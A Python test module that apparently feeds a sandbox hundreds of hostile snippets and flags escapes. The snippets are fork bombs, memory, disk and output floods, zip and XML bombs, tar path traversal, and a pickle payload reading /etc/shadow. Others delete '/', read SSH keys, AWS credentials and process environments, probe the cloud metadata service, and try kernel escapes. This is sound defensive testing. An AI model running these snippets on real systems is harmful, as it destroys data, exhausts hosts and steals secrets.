"""Programs that try to break out, to hang, to flood, to hide, or to survive.

A program that succeeds at something it must not do calls `breach()`. What it reads it prints, so
that the caller's secrets would show. `@PORT@`, `@FOLDER@` and `@PROJECT@` stand for a port on which
the caller listens, a folder of the caller's with a secret in it, and the folder of the project.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

PRELUDE = """\
import os, sys, time
def breach(*what):
    os.write(1, ("BRE" + "ACH %r\\n" % (what,)).encode())
def attempt(function, *arguments):
    try:
        print(function(*arguments), flush=True)
        return True
    except Exception as error:
        print(type(error).__name__, error, flush=True)
        return False
def forbidden(function, *arguments):
    if attempt(function, *arguments):
        breach(function, arguments)
def libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    import ctypes
    return libc().syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
def refused(number, *arguments):
    if call(number, *arguments) != -1:
        breach(number, arguments)
"""


@dataclass(frozen=True)
class Hostile:
    category: str
    name: str
    source: str


# Snippets by category, separated by lines of "---".
SNIPPETS = {
    "loops": """
while True: pass
---
while True: time.sleep(0.001)
---
time.sleep(1000)
---
import itertools
for _ in itertools.count(): pass
---
for _ in iter(int, 1): pass
---
x = [1]
for y in x: x[0] = y
for y in iter(lambda: x, None): pass
---
def f():
    while True: yield 1
sum(f())
---
while True:
    try:
        while True: raise ValueError
    except BaseException: continue
---
class A:
    def __del__(self): A()
A()
while True: A()
---
import threading
threading.Event().wait()
---
import asyncio
async def f():
    while True: await asyncio.sleep(0)
asyncio.run(f())
---
import select
select.select([], [], [])
---
sys.setswitchinterval(1000)
while True: pass
---
class A:
    def __bool__(self): return True
while A(): pass
---
def f():
    try: f()
    finally: f()
f()
---
max(iter(lambda: 1, 2))
---
import atexit
@atexit.register
def f():
    while True: pass
---
class A:
    def __del__(self):
        while True: pass
a = A()
---
import threading
def f():
    while True: pass
threading.Thread(target=f).start()
""",
    "slow computations": """
import re
re.match(r"(a+)+$", "a" * 60 + "b")
---
import re
re.match(r"(a|a)*$", "a" * 60 + "!")
---
import re
re.match(r"(.*)*(.*)*(.*)*x", "a" * 200)
---
10 ** 10 ** 10
---
1 << (1 << 34)
---
x = 3 ** 10 ** 7
---
sys.set_int_max_str_digits(0) if hasattr(sys, "set_int_max_str_digits") else None
str(7 ** 2_000_000)
---
import math
math.factorial(10 ** 7)
---
def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)
fib(100)
---
import itertools
for p in itertools.permutations(range(50)): pass
---
pow(3, 10 ** 300_0, 10 ** 400_0)
---
"a" * 10 ** 7 in "a" * (10 ** 7 - 1) + "b"
sorted(range(10 ** 8), key=lambda x: -x)
---
class H(int):
    def __hash__(self): return 1
{H(i) for i in range(10 ** 6)}
---
import hashlib
hashlib.pbkdf2_hmac("sha512", b"a", b"b", 10 ** 9)
---
import fractions
sum(fractions.Fraction(1, i) for i in range(1, 10 ** 6))
---
eval("+".join(["1"] * 10 ** 6))
---
exec("(" * 10 ** 5)
---
import ast
ast.literal_eval("-" * 10 ** 6 + "1")
""",
    "fork bombs": """
while True: os.fork()
---
while True:
    try: os.fork()
    except OSError: pass
---
while True:
    if os.fork(): os._exit(0)
---
import subprocess
while True: subprocess.Popen([sys.executable, "main.py"])
---
import subprocess
subprocess.run([sys.executable, "-c", "import os\\nwhile 1: os.fork()"])
---
import multiprocessing
def f():
    while True:
        try: multiprocessing.Process(target=f).start()
        except OSError: pass
multiprocessing.set_start_method("fork")
f()
---
def f(n):
    for _ in range(20):
        try:
            if os.fork() == 0: f(n + 1)
        except OSError: pass
    time.sleep(100)
f(0)
---
l = libc()
while True: l.fork()
---
l = libc()
while True:
    if l.vfork() == 0: l._exit(0)
---
import signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0: time.sleep(100)
    except OSError: time.sleep(0)
---
for _ in range(1000):
    try:
        if os.fork() == 0:
            os.setsid()
            while True: pass
    except OSError: break
---
os.execv(sys.executable, [sys.executable, "main.py"])
---
import posix
while True:
    try: posix.posix_spawn(sys.executable, [sys.executable, "-S", "main.py"], {})
    except OSError: pass
---
def clone():
    while call(56, 17, 0, 0, 0, 0) != 99: pass
clone()
""",
    "thread floods": """
import threading
while True: threading.Thread(target=time.sleep, args=(100,)).start()
---
import threading
def f():
    while True:
        try: threading.Thread(target=f).start()
        except RuntimeError: pass
f()
---
import _thread
while True:
    try: _thread.start_new_thread(time.sleep, (100,))
    except RuntimeError: pass
---
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(10_000)
for _ in range(10_000): pool.submit(time.sleep, 100)
---
import threading
threading.stack_size(1 << 30)
threading.Thread(target=time.sleep, args=(100,)).start()
""",
    "memory floods": """
x = bytearray(1 << 40)
---
x = []
while True: x.append(bytearray(1 << 20))
---
x = "a"
while True: x += x
---
x = [0]
while True: x *= 2
---
x = {}
while True: x[len(x)] = str(len(x)) * 100
---
x = []
while True:
    try: x.append(bytearray(1 << 16))
    except MemoryError: pass
---
import mmap
x = []
while True:
    x.append(mmap.mmap(-1, 1 << 22))
    x[-1].write(b"a" * (1 << 22))
---
import array
x = array.array("q", [1])
while True: x.extend(x)
---
for _ in range(5):
    if os.fork() == 0:
        x = bytearray(b"a") * (70 << 20)
        time.sleep(100)
time.sleep(100)
---
l = libc()
import ctypes
l.malloc.restype = ctypes.c_void_p
while True:
    p = l.malloc(1 << 20)
    if p: ctypes.memset(p, 1, 1 << 20)
---
sys.setrecursionlimit(10 ** 9)
def f(): return f() + 1
f()
---
sys.setrecursionlimit(10 ** 9)
class A:
    def __repr__(self): return repr(self)
repr(A())
---
x = []
for _ in range(10 ** 7): x = [x]
y = []
for _ in range(10 ** 7): y = [y]
x == y
---
compile("x = " + "[" * 10 ** 6, "", "exec")
---
exec("x=" + "9" * 10 ** 8)
---
x = [open("/dev/null") for _ in range(100_000)]
---
import resource
resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
breach()
---
import resource
resource.prlimit(1, resource.RLIMIT_AS, (1 << 20, 1 << 20))
breach()
---
p = []
while True:
    r, w = os.pipe()
    os.set_blocking(w, False)
    p.append((r, w))
    os.write(w, b"a" * (1 << 16))
---
import socket
p = []
while True:
    a, b = socket.socketpair()
    a.setblocking(False)
    p.append((a, b))
    try:
        while True: a.send(b"a" * 65536)
    except BlockingIOError: pass
---
open("/dev/zero").read()
""",
    "disk floods": """
with open("f", "wb") as f:
    while True: f.write(b"a" * (1 << 20))
---
n = 0
while True:
    try:
        with open(f"f{n}", "wb") as f: f.write(b"a" * (1 << 20))
    except OSError: pass
    n += 1
---
n = 0
while True:
    open(f"f{n}", "w").close()
    n += 1
---
n = 0
while True:
    os.mkdir(f"f{n}")
    n += 1
---
with open("f", "wb") as f:
    f.truncate(1 << 40)
breach()
---
with open("f", "wb") as f:
    f.seek(1 << 40)
    f.write(b"a")
breach()
---
f = os.open("f", os.O_RDWR | os.O_CREAT)
os.posix_fallocate(f, 0, 1 << 34)
breach()
---
while True:
    with open("/tmp/f", "ab") as f: f.write(b"a" * (1 << 20))
---
while True:
    with open("/dev/shm/f", "ab") as f: f.write(b"a" * (1 << 20))
---
for place in ("/", "/dev", "/usr", "/etc", "/var/tmp", "/run", "/proc", "/sys", "/home"):
    forbidden(lambda: open(place + "/f", "wb").write(b"a" * (1 << 26)))
---
import tempfile
x = []
while True:
    x.append(tempfile.TemporaryFile())
    x[-1].write(b"a" * (1 << 20))
---
f = os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
while True: os.write(f, b"a" * (1 << 20))
---
os.mkdir("d")
n = 0
while True:
    os.symlink("a" * 4000, f"d/{n}")
    n += 1
---
open("f", "w").close()
n = 0
while True:
    os.link("f", f"g{n}")
    n += 1
---
open("f", "w").close()
n = 0
while True:
    os.setxattr("f", f"user.a{n}", b"a" * 60_000)
    n += 1
---
while True:
    os.mkdir("d")
    os.chdir("d")
---
path = "a"
for _ in range(2000):
    os.makedirs(path, exist_ok=True)
    path += "/a"
---
import mmap
f = open("f", "w+b")
f.truncate(16 << 20)
m = mmap.mmap(f.fileno(), 0)
m.write(b"a" * len(m))
---
import sqlite3
c = sqlite3.connect("f")
c.execute("create table t (x)")
while True:
    c.execute("insert into t values (zeroblob(1000000))")
    c.commit()
---
import ctypes
f = libc().memfd_create(b"a", 0)
if f >= 0: breach()
---
refused(29, 0, 1 << 20, 0o1666)
---
import tarfile
with tarfile.open("f.tar", "w") as t:
    while True: t.add("main.py")
""",
    "zip bombs": """
import zlib
x = zlib.compress(bytes(50 << 20))
zlib.decompress(zlib.decompress(zlib.compress(x)) , bufsize=1 << 30)
---
import bz2
x = bz2.compress(bytes(8 << 20))
while True: y = [bz2.decompress(x) for _ in range(100)]
---
import lzma
x = lzma.compress(bytes(8 << 20))
y = []
while True: y.append(lzma.decompress(x))
---
import zipfile
with zipfile.ZipFile("z.zip", "w", zipfile.ZIP_DEFLATED) as z:
    for i in range(20): z.writestr(str(i), bytes(4 << 20))
zipfile.ZipFile("z.zip").extractall("out")
---
import gzip, io
x = gzip.compress(bytes(32 << 20))
for _ in range(5): x = gzip.compress(x)
y = x
while True: y = y + gzip.decompress(gzip.decompress(gzip.decompress(x))) * 1000
---
import tarfile, io
with tarfile.open("t.tar", "w") as t:
    i = tarfile.TarInfo("../../../../@FOLDER@/planted"); i.size = 4
    t.addfile(i, io.BytesIO(b"evil"))
    i = tarfile.TarInfo("/etc/planted"); i.size = 4
    t.addfile(i, io.BytesIO(b"evil"))
tarfile.open("t.tar").extractall("/")
---
import json
json.loads("[" * 10 ** 6)
---
import xml.etree.ElementTree as E
s = '<!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">' + "".join(
    f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 12)) + "]><a>&a11;</a>"
E.fromstring(s)
""",
    "network": """
import socket
forbidden(lambda: socket.create_connection(("127.0.0.1", @PORT@), 1))
---
import socket
forbidden(lambda: socket.create_connection(("localhost", @PORT@), 1))
---
import socket
forbidden(lambda: socket.create_connection(("::1", @PORT@), 1))
---
import socket
forbidden(lambda: socket.create_connection(("1.1.1.1", 53), 1))
---
import socket
forbidden(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"a", ("8.8.8.8", 53)))
---
import socket
forbidden(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))
---
import socket
forbidden(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
---
import socket
forbidden(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
---
import socket
forbidden(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
---
import socket
for family in [*range(2, 48), 1 << 32 | 2, -1]:
    forbidden(lambda: socket.socket(family, socket.SOCK_STREAM))
---
import socket
forbidden(socket.gethostbyname, "example.com")
---
import urllib.request
forbidden(urllib.request.urlopen, "http://127.0.0.1:@PORT@/")
---
import urllib.request
forbidden(urllib.request.urlopen, "http://169.254.169.254/latest/meta-data/")
---
import http.client
forbidden(lambda: http.client.HTTPConnection("127.0.0.1", @PORT@).request("GET", "/"))
---
import asyncio
async def f(): await asyncio.open_connection("127.0.0.1", @PORT@)
forbidden(lambda: asyncio.run(f()))
---
import socket
s = socket.socket(socket.AF_UNIX)
forbidden(s.connect, "/run/docker.sock")
forbidden(s.connect, "/run/dbus/system_bus_socket")
forbidden(s.connect, "/tmp/.X11-unix/X0")
forbidden(s.connect, "@FOLDER@/socket")
---
import socket
s = socket.socket(socket.AF_UNIX)
forbidden(s.connect, "\\0@ABSTRACT@")
---
import socket
l = libc()
if l.socket(2, 1, 0) != -1: breach()
if l.socket(0x100000002, 1, 0) != -1: breach()
---
import socket
a, b = socket.socketpair()
forbidden(lambda: a.connect(("127.0.0.1", @PORT@)))
---
import smtplib
forbidden(lambda: smtplib.SMTP("127.0.0.1", @PORT@, timeout=1))
---
import ftplib
forbidden(lambda: ftplib.FTP("127.0.0.1", timeout=1))
---
import webbrowser
if webbrowser.open("http://127.0.0.1:@PORT@/"): breach()
---
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("/work/s")
s.listen()
s.accept()
---
import subprocess
forbidden(subprocess.check_output, ["curl", "http://127.0.0.1:@PORT@/"])
---
open("/dev/tcp/127.0.0.1/@PORT@")
breach()
---
import ssl, socket
forbidden(lambda: ssl.wrap_socket(socket.socket()))
forbidden(lambda: ssl.get_server_certificate(("127.0.0.1", @PORT@)))
""",
    "secrets": """
print(dict(os.environ))
---
for pid in ("1", "2", "self", "thread-self", str(os.getppid())):
    forbidden(lambda: open(f"/proc/{pid}/environ", "rb").read())
---
for pid in ("1", "self", str(os.getppid())):
    for name in ("mem", "maps", "cmdline", "root", "cwd", "fd", "mounts"):
        forbidden(lambda: open(f"/proc/{pid}/{name}", "rb").read(1000))
---
forbidden(os.listdir, "/proc/self/fd")
---
forbidden(os.listdir, "/proc/1/root")
---
for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/hosts", "/etc/machine-id"):
    forbidden(lambda: open(path).read())
---
forbidden(lambda: open("@FOLDER@/secret.txt").read())
---
forbidden(os.listdir, "@FOLDER@")
---
forbidden(os.listdir, "@PROJECT@")
forbidden(lambda: open("@PROJECT@/pyproject.toml").read())
forbidden(lambda: open("@PROJECT@/mbrl_text_env/__init__.py").read())
---
sys.path.insert(0, "@PROJECT@")
try:
    import mbrl_text_env
    breach()
except ImportError: pass
---
home = os.path.expanduser("~")
for place in (home, "/root", "/home", "/home/user"):
    for name in (".ssh/id_rsa", ".bash_history", ".netrc", ".aws/credentials", ".gitconfig"):
        forbidden(lambda: open(f"{place}/{name}").read())
---
for folder, _, files in os.walk("/"):
    for name in files:
        if name == "secret.txt" or name.startswith("id_"): breach(folder, name)
---
import glob
for path in glob.glob("/**/*.txt", recursive=True):
    if "secret" in path: breach(path)
---
for number in range(3, 1024):
    try: os.fstat(number)
    except OSError: continue
    breach(number)
---
for number in range(3, 256):
    try: breach(os.read(number, 100))
    except OSError: pass
---
for number in (0, 1, 2):
    try: os.write(0, b"a")
    except OSError: continue
    breach(number)
---
import subprocess
forbidden(subprocess.check_output, ["env"])
forbidden(subprocess.check_output, ["/usr/bin/printenv"])
forbidden(subprocess.check_output, "env", )
---
for path in ("/var/log/syslog", "/var/lib/dpkg/status", "/opt", "/srv", "/mnt", "/media", "/boot"):
    forbidden(lambda: os.stat(path))
---
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/tty"):
    forbidden(os.open, path, os.O_RDONLY)
---
forbidden(os.listdir, "/sys")
forbidden(os.listdir, "/sys/fs/cgroup")
---
import site
for folder in [*site.getsitepackages(), site.getusersitepackages()]:
    if os.path.isdir(folder) and os.listdir(folder): breach(folder)
---
try:
    import numpy
    breach()
except ImportError: pass
---
import pwd
forbidden(pwd.getpwall) if pwd.getpwall() else None
---
import ctypes
l = libc()
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(l, "environ")
i = 0
while environ[i]:
    print(environ[i]); i += 1
---
import gc, inspect
for thing in gc.get_objects():
    if isinstance(thing, (str, bytes, dict)): print(str(thing)[:2000])
---
if os.getuid() == 0 or os.geteuid() == 0: breach()
forbidden(os.setuid, 0)
forbidden(os.setgid, 0)
forbidden(os.setgroups, [0])
---
print(os.uname(), os.getppid(), os.getpid())
if os.uname().nodename != "box" or os.getppid() != 1: breach()
---
forbidden(lambda: open("/work/../../../../../@FOLDER@/secret.txt").read())
---
os.symlink("@FOLDER@/secret.txt", "link")
forbidden(lambda: open("link").read())
---
forbidden(lambda: os.open("/dev/fd/0", os.O_RDONLY))
forbidden(lambda: os.open("/dev/stdout", os.O_WRONLY))
---
import fcntl
print(fcntl.fcntl(0, 1033) if hasattr(fcntl, "F_GET_SEALS") else None)
forbidden(lambda: os.ftruncate(0, 1 << 20))
---
f = open("secret-core", "w"); f.close()
import faulthandler
faulthandler.enable()
os.abort()
---
import logging, platform
print(platform.uname(), platform.node(), platform.libc_ver())
forbidden(lambda: os.getlogin())
---
import resource
print(resource.getrusage(resource.RUSAGE_CHILDREN), os.times(), os.getloadavg())
---
forbidden(lambda: open("/usr/lib/os-release").read())
forbidden(lambda: open("/etc/resolv.conf").read())
---
forbidden(lambda: __import__("termios").tcgetattr(0))
forbidden(lambda: os.ttyname(1))
import fcntl
forbidden(lambda: fcntl.ioctl(0, 0x5412, b"a"))
""",
    "signals": """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
---
import signal
for number in range(1, 65):
    try: signal.signal(number, lambda *a: None)
    except (OSError, ValueError): pass
time.sleep(1000)
---
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True: pass
---
os.kill(-1, 9)
---
os.kill(-1, 19)
---
for number in range(1, 65):
    try: os.kill(os.getppid(), number)
    except OSError: pass
print(os.getppid())
---
for number in range(1, 65):
    try: os.kill(1, number)
    except OSError: pass
time.sleep(0.1)
---
os.kill(os.getpid(), 19)
---
os.killpg(0, 19)
---
import signal
signal.alarm(1)
signal.signal(signal.SIGALRM, lambda *a: signal.alarm(1))
while True: signal.pause()
---
import signal
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
signal.signal(signal.SIGALRM, lambda *a: None)
while True: pass
---
for pid in range(1, 100_000):
    try: os.kill(pid, 0)
    except ProcessLookupError: continue
    except PermissionError: breach(pid)
    if pid > 20: breach(pid)
---
import signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.setsid() if os.getpgrp() != os.getpid() else None
if os.fork() == 0:
    while True: pass
while True: pass
---
os.setpriority(os.PRIO_PROCESS, 0, -20)
breach()
---
os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
breach()
---
os.sched_setaffinity(0, range(os.cpu_count() or 1))
while True: pass
---
import faulthandler
faulthandler._sigsegv()
---
os.kill(os.getpid(), 9)
---
import ctypes
ctypes.string_at(0)
---
l = libc()
if l.prctl(1, 0) == 0:
    pid = os.fork()
    if pid: os._exit(0)
    time.sleep(1000)
""",
    "output floods": """
while True: print("a" * 1000)
---
while True: os.write(1, b"a" * (1 << 20))
---
while True: os.write(2, b"a" * (1 << 20))
---
while True: sys.stderr.write("error ")
---
print("a" * (64 << 20))
---
if os.fork():
    while True: os.write(1, b"a" * 65536)
while True: os.write(2, b"b" * 65536)
---
while True: os.write(1, b"\\0\\xff\\xfe\\x80")
---
while True: print(end="\\n" * 10_000)
---
import warnings
n = 0
while True:
    warnings.warn(f"{n}" * 100)
    n += 1
---
def f(): raise ValueError("a" * (32 << 20))
f()
---
import traceback
while True:
    try: 1 / 0
    except ZeroDivisionError: traceback.print_exc()
---
os.set_blocking(1, False)
while True:
    try: os.write(1, b"a" * 65536)
    except BlockingIOError: pass
---
import fcntl
try: fcntl.fcntl(1, 1031, 1 << 30)
except OSError as error: print(error)
while True: os.write(1, b"a" * (1 << 20))
""",
    "import tricks": """
import builtins
builtins.__import__ = lambda *a, **k: (_ for _ in ()).throw(SystemExit(0))
import json
---
for name in ("sitecustomize.py", "usercustomize.py", "os.py", "json.py", "site.py"):
    open(name, "w").write("print('poison')")
os.execv(sys.executable, [sys.executable, "-c", "import os, json, site; print(json.__file__)"])
---
sys.modules.clear()
import json
---
for name in list(sys.modules): sys.modules[name] = None
while True: pass
---
class Finder:
    def find_spec(self, *a):
        while True: pass
sys.meta_path.insert(0, Finder())
import colorsys
---
import importlib
while True: importlib.reload(importlib.import_module("json"))
---
base = os.path.dirname(os.__file__)
forbidden(lambda: open(base + "/os.py", "a").write("import evil"))
forbidden(os.remove, base + "/json/__init__.py")
forbidden(os.rename, base, base + "2")
forbidden(os.chmod, base + "/os.py", 0o777)
forbidden(os.utime, base + "/os.py")
forbidden(os.mkdir, base + "/__pycache__/evil")
forbidden(os.mkdir, base + "/site-packages/evil")
---
forbidden(lambda: open(sys.executable, "ab"))
forbidden(os.remove, sys.executable)
---
open("evil.pth", "w").write("import os; os.fork()")
open("pyvenv.cfg", "w").write("home = /work")
os.execv(sys.executable, [sys.executable, "-m", "site"])
---
import this, antigravity
---
import pickle
class A:
    def __reduce__(self): return (os.system, ("cat /etc/shadow",))
pickle.loads(pickle.dumps(A()))
---
import ctypes
ctypes.pythonapi.PyErr_SetInterrupt()
ctypes.pythonapi.Py_FatalError(b"evil")
---
import types
f = lambda: 0
f.__code__ = f.__code__.replace(co_code=b"\\x64\\xff" * 50)
f()
---
sys.settrace(lambda *a: time.sleep(1000))
def f(): pass
f()
---
import encodings
encodings.search_function = None
sys.stdout = sys.stderr = sys.stdin = None
sys.excepthook = lambda *a: os._exit(0)
raise ValueError
""",
    "daemons": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(0.1)
    os._exit(0)
---
if os.fork() == 0:
    for number in range(3): os.close(number)
    os.setsid()
    while True: pass
---
import subprocess
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True)
---
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        while True: time.sleep(1)
---
import signal
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True: pass
---
pid = os.fork()
while True:
    if os.fork(): os._exit(0)
---
if os.fork() == 0:
    libc().prctl(15, b"kworker", 0, 0, 0)
    os.setsid()
    time.sleep(1000)
---
if os.fork() == 0:
    libc().prctl(36, 1, 0, 0, 0)
    for _ in range(3):
        if os.fork() == 0: time.sleep(1000)
    os._exit(0)
---
import threading
threading.Thread(target=time.sleep, args=(1000,)).start()
---
import threading
threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
os.fork()
---
import atexit
atexit.register(lambda: os.fork() or time.sleep(1000))
---
import multiprocessing
multiprocessing.set_start_method("fork")
multiprocessing.Process(target=time.sleep, args=(1000,)).start()
---
if os.fork() == 0:
    os.dup2(os.open("/dev/null", os.O_RDWR), 1)
    os.kill(os.getpid(), 19)
---
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    os.read(r, 1)
""",
    "kernel": """
import ctypes
if libc().ptrace(16, 1, 0, 0) != -1: breach()
---
pid = os.fork()
if pid == 0: time.sleep(1000)
if libc().ptrace(16, pid, 0, 0) != -1: breach()
---
if libc().ptrace(0, 0, 0, 0) != -1: breach()
---
l = libc()
if l.mount(b"none", b"/tmp", b"tmpfs", 0, b"") != -1: breach()
if l.mount(b"none", b"/tmp", b"proc", 0, b"") != -1: breach()
---
l = libc()
if l.mount(b"/", b"/tmp", None, 4096, None) != -1: breach()
if l.mount(None, b"/usr", None, 32 | 4096, None) != -1: breach()
---
l = libc()
for place in (b"/work", b"/tmp", b"/usr/lib", b"/"):
    if l.umount2(place, 2) != -1: breach(place)
---
l = libc()
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80):
    if l.unshare(flag) != -1: breach(flag)
---
for flag in (0x20000, 0x10000000, 0x20000000, 0x40000000):
    pid = call(56, flag | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    if pid != -1: breach(flag)
---
import ctypes
arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
pid = call(435, ctypes.addressof(arguments), 88)
if pid == 0: os._exit(0)
if pid != -1: breach()
---
l = libc()
os.mkdir("d")
if l.chroot(b"d") != -1:
    for _ in range(100): os.chdir("..")
    l.chroot(b".")
    breach(os.listdir("."))
---
os.mkdir("d")
if libc().pivot_root(b".", b"d") != -1: breach()
---
number = os.open("/", os.O_RDONLY)
os.fchdir(number)
for _ in range(50): os.chdir("..")
print(os.listdir("."))
forbidden(os.stat, "home")
---
refused(308, 0, 0)
---
refused(250, 0, -3, 1)
refused(248, 0, 0, 0, 0, -3)
---
refused(321, 0, 0, 0)
---
refused(298, 0, 0, -1, -1, 0)
---
refused(425, 8, 0)
---
refused(323, 0)
---
refused(246, 0, 0, 0, 0)
refused(175, 0, 0, 0)
refused(169, 0xfee1dead, 672274793, 0x1234567, 0)
---
refused(310, os.getppid(), 0, 0, 0, 0, 0)
refused(311, os.getppid(), 0, 0, 0, 0, 0)
---
pid = os.pidfd_open(1)
refused(438, pid, 1, 0)
---
refused(303, -100, 0, 0, 0, 0)
refused(304, -100, 0, 0)
---
refused(442, -100, 0, 0, 0, 0)
refused(428, -100, 0, 1)
refused(430, 0, 0)
---
forbidden(os.mknod, "/tmp/sda", 0o60666, os.makedev(8, 0))
forbidden(os.mknod, "/work/mem", 0o20666, os.makedev(1, 1))
---
import ctypes, mmap
m = mmap.mmap(-1, 4096, prot=7)
m.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
breach("i386")
---
call(0x40000000 | 39)
breach("x32")
---
forbidden(lambda: libc().sethostname(b"evil", 4) == 0 or 1 / 0)
---
import ctypes
header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xffffffff] * 6)
if libc().capset(header, data) != -1: breach()
---
l = libc()
if l.prctl(39, 0, 0, 0, 0) != 1: breach("no_new_privs")
if l.prctl(38, 0, 0, 0, 0) != -1: breach("no_new_privs")
for capability in range(41):
    if l.prctl(23, capability, 0, 0, 0) == 1: breach(capability)
---
if libc().prctl(21, 0, 0, 0, 0) != 2: breach("no filter")
---
import time
forbidden(time.clock_settime, time.CLOCK_REALTIME, 0)
---
refused(312, os.getpid(), 1, 0, 0, 0)
refused(172, 3)
refused(135, 0x0040000)
---
refused(300, 0, 0)
refused(253)
refused(294, 0)
refused(155, 0, 0)
refused(165, 0, 0, 0, 0, 0)
---
for number in range(442, 600):
    import ctypes
    if call(number, 0, 0, 0) != -1 or ctypes.get_errno() != 38: breach(number)
---
import resource
for name in ("NPROC", "NOFILE", "FSIZE", "CPU", "CORE"):
    limit = getattr(resource, "RLIMIT_" + name)
    forbidden(resource.setrlimit, limit, (10 ** 12, 10 ** 12))
""",
    "second thoughts": """
# A child of the first process, and not of the program.
pid = call(56, 0x8000 | 17, 0, 0, 0, 0)
if pid == 0:
    os.setsid()
    while True: time.sleep(1)
---
# The main thread ends, and the process goes on.
import threading
threading.Thread(target=time.sleep, args=(1000,)).start()
libc().pthread_exit(None)
---
# Shared memory is not private, and is memory.
import mmap
os.fork(), os.fork()
x = mmap.mmap(-1, 60 << 20)
for _ in range(60): x.write(b"a" * (1 << 20))
time.sleep(1000)
---
# A crash with a core limit of 0 would start the host's handler, if it has one.
import resource
forbidden(resource.setrlimit, resource.RLIMIT_CORE, (0, 0))
os.abort()
---
# Signals from the pipe that the caller reads.
import fcntl
fcntl.fcntl(1, fcntl.F_SETOWN, 1)
fcntl.fcntl(1, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.kill(0, 0)
---
# Descriptors in flight are in no process's table.
import socket, array
a, b = socket.socketpair()
while True:
    r, w = os.pipe()
    a.sendmsg([b"a"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [r, w]))])
    os.close(r); os.close(w)
---
# Starve the first process.
for pid in (1, os.getpid()):
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    except OSError as error: print(error)
while True: pass
---
# Be many short-lived ones, so that none is ever seen.
import signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            sum(range(10_000)); os._exit(0)
    except OSError: pass
---
# The loader of the program's own libraries, and a name of the interpreter's.
os.symlink(sys.executable, "python")
os.execve("python", ["python", "-c", "import os; print(os.environ, os.listdir('/'))"],
          {"LD_LIBRARY_PATH": "/work", "LD_AUDIT": "/work/a.so", "PYTHONPATH": "/work"})
---
# A terminal, from which keys can be pushed to the caller's shell.
import fcntl
for number in range(3): forbidden(fcntl.ioctl, number, 0x5412, b"a")
forbidden(os.open, "/dev/ptmx", os.O_RDWR)
forbidden(os.openpty)
---
# A filter of its own that asks a listener, or lets all through.
import ctypes
code = (ctypes.c_uint64 * 1)(0x7fff000000000006)
program = (ctypes.c_uint64 * 2)(1, ctypes.addressof(code))
libc().prctl(22, 2, ctypes.byref(program), 0, 0)
refused(272, 0x10000000)
---
# A page that the kernel is slow to give, in the way of its own end.
import mmap
f = open("f", "w+b"); f.truncate(1 << 20)
m = mmap.mmap(f.fileno(), 1 << 20)
os.truncate("f", 0)
print(m[:10])
""",
    "files": """
import shutil
shutil.rmtree("/work", ignore_errors=True)
print(os.listdir("/"))
---
os.chdir("/")
os.rmdir("/work")
breach()
---
import shutil
shutil.rmtree("/", ignore_errors=True)
---
os.remove("main.py")
os.chdir("/tmp")
while True: pass
---
os.mkfifo("f")
open("f").read()
---
os.mkfifo("f")
open("f", "w").write("a")
---
os.symlink("link", "link")
forbidden(lambda: open("link").read())
---
os.symlink("/", "root")
forbidden(lambda: open("root/@FOLDER@/canary.txt", "w").write("changed"))
---
forbidden(lambda: open("@FOLDER@/canary.txt", "w").write("changed"))
---
attempt(os.makedirs, "@FOLDER@/new")
---
forbidden(os.rename, "/usr", "/usr2")
forbidden(os.remove, "/dev/null")
---
os.chmod("/work", 0)
os.chmod("/tmp", 0)
---
f = open("f", "w")
import fcntl
fcntl.flock(f, fcntl.LOCK_EX)
g = open("f", "w")
fcntl.flock(g, fcntl.LOCK_EX)
---
for _ in range(100_000):
    os.makedirs("a/b/c/d", exist_ok=True)
    os.rename("a/b", "b")
